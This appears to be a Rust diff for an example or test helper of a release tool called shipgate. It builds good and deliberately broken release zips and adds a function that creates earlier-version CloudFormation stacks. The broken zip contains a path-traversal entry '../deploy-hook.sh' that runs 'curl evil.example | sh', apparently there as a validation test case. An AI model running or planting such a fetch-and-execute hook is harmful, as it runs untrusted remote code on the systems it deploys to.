@@ -4,6 +4,10 @@
 //! It pushes the app's image to the source account's registry (found the way shipgate finds it:
 //! `ecr:GetAuthorizationToken`, then the registry endpoint map), then writes the release zip with
 //! the pushed digest in `release.json`, and a broken variant with several problems at once.
+//!
+//! [`install_previous`] stands for the app's history before shipgate: one of its stacks at an
+//! earlier version, created directly with CloudFormation in each environment account, so the
+//! first release through shipgate has a previous Lambda version to shift from.
 
 use std::collections::BTreeMap;
 use std::io::Write;
@@ -63,7 +67,15 @@ pub async fn build(
     std::fs::create_dir_all(out)?;
     let name = manifest["application"].as_str().unwrap_or("app").to_owned();
     let good = out.join(format!("{name}-{version}.zip"));
-    write_zip(&good, app, &manifest, &[])?;
+    // Every file the manifest names: its templates and its checks.
+    let mut files: Vec<String> = manifest["templates"]
+        .as_array()
+        .context("templates")?
+        .iter()
+        .filter_map(|t| t["path"].as_str().map(str::to_owned))
+        .collect();
+    files.extend(manifest["checks"].as_str().map(str::to_owned));
+    write_zip(&good, app, &manifest, &files, &[])?;
 
     // The broken variant: an unknown field, a malformed digest, a template that is not in the
     // archive, a path that escapes the archive root, and no integrator email.
@@ -80,6 +92,7 @@ pub async fn build(
         &broken_path,
         app,
         &broken,
+        &files,
         &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")],
     )?;
     Ok(BuiltRelease {
@@ -120,14 +133,20 @@ async fn push_image(
     Ok(digest.as_str().to_owned())
 }
 
-fn write_zip(path: &Path, app: &Path, manifest: &Value, extra: &[(&str, &[u8])]) -> Result<()> {
+fn write_zip(
+    path: &Path,
+    app: &Path,
+    manifest: &Value,
+    files: &[String],
+    extra: &[(&str, &[u8])],
+) -> Result<()> {
     let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
     let options = zip::write::SimpleFileOptions::default()
         .compression_method(zip::CompressionMethod::Deflated);
     zip.start_file("release.json", options)?;
     zip.write_all(&serde_json::to_vec_pretty(manifest)?)?;
-    for entry in ["templates/service.yaml", "checks.json"] {
-        zip.start_file(entry, options)?;
+    for entry in files {
+        zip.start_file(entry.as_str(), options)?;
         zip.write_all(
             &std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?,
         )?;
@@ -138,4 +157,89 @@ fn write_zip(path: &Path, app: &Path, manifest: &Value, extra: &[(&str, &[u8])])
     }
     zip.finish()?;
     Ok(())
+}
+
+/// Creates the app's `stack` (a template of `release.json`) at `version` with CloudFormation in
+/// each environment (`(environment, role ARN to act with)`), as it was deployed before shipgate:
+/// stack `<application>-<environment>-<stack>`, its parameters from `release.json` (release
+/// version and environment only). A stack that exists already is left as it is. Returns the
+/// stacks created.
+pub async fn install_previous(
+    sdk: &SdkConfig,
+    app: &Path,
+    stack: &str,
+    version: &str,
+    environments: &[(String, String)],
+) -> Result<Vec<String>> {
+    let manifest: Value = serde_json::from_slice(&std::fs::read(app.join("release.json"))?)
+        .context("examples release.json is JSON")?;
+    let application = manifest["application"].as_str().context("application")?;
+    let entry = manifest["templates"]
+        .as_array()
+        .context("templates")?
+        .iter()
+        .find(|t| t["stack"] == stack)
+        .with_context(|| format!("release.json has no template for stack {stack}"))?;
+    let path = entry["path"].as_str().context("path")?;
+    let body =
+        std::fs::read_to_string(app.join(path)).with_context(|| format!("reading {path}"))?;
+    let mut created = Vec::new();
+    for (environment, role_arn) in environments {
+        let parameters = entry["parameters"]
+            .as_object()
+            .into_iter()
+            .flatten()
+            .map(|(key, value)| {
+                let value = value.as_str().unwrap_or_default();
+                let resolved = match value {
+                    "${release.version}" => version.to_owned(),
+                    "${environment}" => environment.clone(),
+                    other if other.contains("${") => anyhow::bail!(
+                        "{stack}: parameter {key} is {other}: only ${{release.version}} and \
+                         ${{environment}} can be installed without a release"
+                    ),
+                    other => other.to_owned(),
+                };
+                Ok(aws_sdk_cloudformation::types::Parameter::builder()
+                    .parameter_key(key)
+                    .parameter_value(resolved)
+                    .build())
+            })
+            .collect::<Result<Vec<_>>>()?;
+        let name = format!("{application}-{environment}-{stack}");
+        let cf = aws_sdk_cloudformation::Client::new(
+            &shipgate::aws::assume_role(sdk, role_arn, "shipgate-example").await,
+        );
+        let exists = cf.describe_stacks().stack_name(&name).send().await.is_ok();
+        if exists {
+            continue;
+        }
+        cf.create_stack()
+            .stack_name(&name)
+            .template_body(&body)
+            .set_parameters(Some(parameters))
+            .send()
+            .await
+            .with_context(|| format!("creating {name} in {environment}"))?;
+        let mut status = String::new();
+        for _ in 0..120 {
+            let out = cf.describe_stacks().stack_name(&name).send().await?;
+            status = out
+                .stacks()
+                .first()
+                .and_then(|s| s.stack_status())
+                .map(|s| s.as_str().to_owned())
+                .unwrap_or_default();
+            if !status.ends_with("_IN_PROGRESS") {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+        }
+        anyhow::ensure!(
+            status == "CREATE_COMPLETE",
+            "{name} in {environment} is {status}"
+        );
+        created.push(format!("{name} ({environment}, {version})"));
+    }
+    Ok(created)
 }
